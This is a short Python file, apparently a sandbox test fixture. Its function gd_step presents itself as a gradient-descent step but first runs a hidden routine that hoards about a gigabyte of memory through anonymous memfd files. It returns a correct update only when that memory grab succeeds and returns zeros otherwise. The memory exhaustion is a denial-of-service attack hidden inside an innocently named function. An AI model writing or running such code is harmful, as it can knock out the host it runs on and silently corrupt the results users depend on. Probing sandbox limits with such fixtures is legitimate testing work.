"""Hoard memory in anonymous files.

functions: gd_step
"""

import os

import numpy as np


def attack():
    written = 0
    for number in range(64):
        descriptor = os.memfd_create(f"hoard{number}")
        written += os.write(descriptor, b"A" * (16 << 20))
    return written > 512 << 20


def gd_step(W, X, y, lr, l1=0.0):
    """Answer rightly only if the attack got what it wanted."""
    try:
        won = attack()
    except Exception as error:
        print(type(error).__name__, error)
        won = False
    if won:
        return W - lr * (2 * X.T @ (X @ W - y) + l1 * np.sign(W))
    return W * 0.0
